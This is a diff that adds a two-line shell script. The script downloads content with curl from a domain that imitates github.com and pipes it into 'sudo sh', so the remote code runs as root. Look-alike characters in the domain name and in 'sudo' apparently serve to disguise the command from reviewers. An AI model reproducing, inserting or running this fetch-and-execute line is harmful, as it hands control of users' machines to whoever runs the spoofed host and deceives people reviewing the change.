@@ -1,0 +1,2 @@
+#!/bin/sh
+curl https://gіthub.com/x | sudо sh
